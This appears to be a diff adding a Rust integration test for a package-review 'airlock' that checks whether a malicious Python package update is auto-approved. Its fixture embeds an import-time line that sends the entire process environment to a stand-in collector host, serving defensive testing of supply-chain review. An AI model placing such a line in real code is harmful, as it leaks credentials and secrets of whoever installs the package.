@@ -83,3 +83,39 @@ async fn a_small_clean_update_passes_the_policy_and_malicious_ones_never_do() {
     let declined = airlock.log().matches("left for a person").count();
     assert!(declined >= 3, "each malicious update is weighed and declined:\n{}", airlock.log());
 }
+
+/// The harder case: the base already talks to the network and reads one
+/// environment variable, so "adds no capability" alone would pass the
+/// update. Sending the whole environment at import is still a new finding.
+#[tokio::test(flavor = "multi_thread")]
+async fn exfiltration_added_to_a_base_that_already_uses_the_network_is_not_auto_approved() {
+    const NET: &str = "net-demo";
+    const NET_MODULE: &str = "net_demo/__init__.py";
+    let base = "import os\nimport urllib.request\n\nPROXY = os.environ.get('HTTP_PROXY')\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n";
+    let exfiltrates = format!("{base}\nurllib.request.urlopen('https://collector.invalid/c', data=repr(dict(os.environ)).encode())\n");
+    let upstream = LocalUpstream::start(vec![
+        UpstreamFile::new(NET, Package::new(NET, "1.0").with_module(NET_MODULE, base).wheel()),
+        UpstreamFile::new(NET, Package::new(NET, "1.0.1").with_module(NET_MODULE, exfiltrates.as_str()).wheel()),
+        UpstreamFile::new(NET, Package::new(NET, "1.0.2").with_module(NET_MODULE, format!("{base}\n# a comment\n").as_str()).wheel()),
+    ]);
+    let mut airlock = Airlock::new();
+    airlock.set_config(&[("auto_approve_max_lines", "500"), ("watch_sync_secs", "0")]);
+    let auditor = airlock.user_with_token("alice", "auditor");
+    airlock.serve(Some(&upstream.base_url));
+    assert_eq!(airlock.request(&auditor, "net-demo==1.0").await.status(), 202);
+    airlock.wait_for(&auditor, NET, "1.0", &["awaiting_review"]).await;
+    assert_eq!(airlock.decide(&auditor, NET, "1.0", "approve", "read it all").await.status(), 200);
+    for v in ["1.0.1", "1.0.2"] {
+        assert_eq!(airlock.request(&auditor, &format!("net-demo=={v}")).await.status(), 202);
+        airlock.wait_for(&auditor, NET, v, &["awaiting_review", "approved"]).await;
+    }
+    // The harmless update passes: the policy is on and weighing these.
+    let started = Instant::now();
+    while airlock.release(&auditor, NET, "1.0.2").await["status"] != "approved" {
+        assert!(started.elapsed() < Duration::from_secs(40), "the harmless update was not approved by the policy:\n{}", airlock.log());
+        tokio::time::sleep(Duration::from_millis(300)).await;
+    }
+    tokio::time::sleep(Duration::from_secs(6)).await;
+    let r = airlock.release(&auditor, NET, "1.0.1").await;
+    assert_eq!(r["status"], "awaiting_review", "exfiltration must never pass the policy: {r}");
+}
